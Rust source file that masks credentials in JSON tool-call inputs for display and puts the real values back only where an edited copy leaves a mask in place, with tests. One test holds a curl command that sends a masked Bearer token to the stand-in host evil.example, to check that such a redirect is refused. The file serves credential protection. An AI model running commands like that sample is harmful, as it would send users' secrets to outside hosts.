//! What callers send, as it may be shown: without credentials.
//!
//! What runs needs them, so they are taken out of copies alone. There is nothing to choose about it: a copy is for people who are asked, for
//! records that many may read, and for spans.

use std::borrow::Cow;
use std::sync::LazyLock;

use serde_json::Value;
use toolplane_records::payload::JsonPayload;

use crate::cleaner::{Cleaner, REPLACEMENT};
use crate::findings::Findings;
use crate::policy::{CleaningPolicy, Treatment};

static CLEANER: LazyLock<Cleaner> =
    LazyLock::new(|| Cleaner::new(&CleaningPolicy { credentials: Treatment::Mask, ..CleaningPolicy::NOTHING }));

/// The copy of an input that may be shown; the very input where there is no credential in it. What is no JSON is hidden.
pub fn shown(input: &JsonPayload) -> JsonPayload {
    if CLEANER.finds_nothing(input.text()) {
        return input.clone();
    }
    match CLEANER.json(input.text(), &mut Findings::default()) {
        Ok(Cow::Borrowed(_)) => input.clone(),
        Ok(Cow::Owned(copy)) => JsonPayload::from_checked(copy),
        Err(_) => JsonPayload::of(toolplane_records::payload::REDACTED),
    }
}

/// A text that quotes an input, as it may be shown.
pub fn shown_text(text: &str) -> Cow<'_, str> {
    CLEANER.text(text, &mut Findings::default())
}

/// What is written in place of a credential stands where there was none, or was changed itself: what it stood for must not follow.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error(
    "`{pointer}` holds a masked credential that is not the one that was there; leave the whole text as it was shown, or write all of it"
)]
pub struct MovedMask {
    /// Where, as a JSON pointer.
    pub pointer: String,
}

/// `edited`, which somebody made from the [shown] copy of `real`, with the texts of `real` where that copy was left as it was.
///
/// # Errors
///
/// [`MovedMask`] when a text has the mark of a credential and is not one of that copy at the same place.
pub fn unmasked(edited: &JsonPayload, real: &JsonPayload) -> Result<JsonPayload, MovedMask> {
    if !edited.text().contains(REPLACEMENT) && !edited.text().contains("***") {
        return Ok(edited.clone());
    }
    let copy = shown(real);
    if copy == *real {
        return Ok(edited.clone());
    }
    let (mut value, copy, real) = (edited.to_value(), copy.to_value(), real.to_value());
    let mut changed = false;
    put_back(&mut value, Some(&copy), Some(&real), &mut String::new(), &mut changed)?;
    Ok(if changed { JsonPayload::of(&value) } else { edited.clone() })
}

fn put_back(
    value: &mut Value,
    copy: Option<&Value>,
    real: Option<&Value>,
    at: &mut String,
    changed: &mut bool,
) -> Result<(), MovedMask> {
    let length = at.len();
    match value {
        Value::String(text) => match (copy, real) {
            (Some(Value::String(copy)), Some(Value::String(real))) if copy == text => {
                *changed |= copy != real;
                real.clone_into(text);
            }
            _ if text.contains(REPLACEMENT) => return Err(MovedMask { pointer: at.clone() }),
            _ => {}
        },
        Value::Object(members) => {
            for (name, member) in members {
                at.push('/');
                at.push_str(&name.replace('~', "~0").replace('/', "~1"));
                put_back(
                    member,
                    copy.and_then(|copy| copy.get(name)),
                    real.and_then(|real| real.get(name)),
                    at,
                    changed,
                )?;
                at.truncate(length);
            }
        }
        Value::Array(items) => {
            for (index, item) in items.iter_mut().enumerate() {
                at.push('/');
                at.push_str(&index.to_string());
                put_back(
                    item,
                    copy.and_then(|copy| copy.get(index)),
                    real.and_then(|real| real.get(index)),
                    at,
                    changed,
                )?;
                at.truncate(length);
            }
        }
        _ => {}
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    /// One look at the whole finds whatever is found in its parts.
    #[test]
    fn what_is_shown_at_once_has_nothing_in_it() {
        let corpora =
            [include_str!("../tests/it/corpus/credentials.tsv"), include_str!("../tests/it/corpus/personal.tsv")];
        let (mut at_once, mut changed) = (0, 0);
        for line in corpora.iter().flat_map(|corpus| corpus.lines()) {
            for cell in line.split('\t') {
                let named = json!({ "a": cell, cell: "Tr0ub4dor-x9Q!", "n": [cell] });
                for input in [JsonPayload::of(&named), JsonPayload::of(&json!({ "text": line }))] {
                    let looked = CLEANER.json(input.text(), &mut Findings::default()).unwrap();
                    at_once += u32::from(CLEANER.finds_nothing(input.text()));
                    changed += u32::from(looked != input.text());
                    assert_eq!(shown(&input).text(), looked, "{line}");
                }
            }
        }
        // A name counts however it is written, where no value tells.
        for name in ["p-w-d", "Set-Cookie", "a_p_i_k_e_y", "j.w.t_secret"] {
            let shown = shown(&JsonPayload::of(&json!({ name: "Tr0ub4dor-x9Q!" })));
            assert!(!shown.text().contains("Tr0ub4dor"), "{}", shown.text());
        }
        assert!(at_once > 50 && changed > 50, "{at_once} {changed}");
    }

    #[test]
    fn what_was_left_as_it_was_shown_is_put_back_and_nothing_else() {
        let command = "curl -H 'Authorization: Bearer abcd1234efgh5678abcd' https://example.org";
        let real = JsonPayload::of(&json!({ "command": command, "list": [{ "password": "Tr0ub4dor-x9" }] }));
        let copy = shown(&real);
        assert!(!copy.text().contains("abcd1234") && !copy.text().contains("Tr0ub4dor"), "{}", copy.text());
        assert_eq!(unmasked(&copy, &real).unwrap().to_value(), real.to_value());
        let mut edited = copy.to_value();
        edited["cwd"] = json!("there");
        let back = unmasked(&JsonPayload::of(&edited), &real).unwrap().to_value();
        assert_eq!((&back["command"], &back["cwd"]), (&json!(command), &json!("there")));
        edited["command"] = json!("curl -H 'Authorization: Bearer [redacted authorization]' https://evil.example");
        assert_eq!(unmasked(&JsonPayload::of(&edited), &real).unwrap_err().pointer, "/command");
        let plain = JsonPayload::of(&json!({ "command": "ls" }));
        assert_eq!(shown(&plain), plain);
        assert_eq!(unmasked(&plain, &real).unwrap(), plain);
    }
}
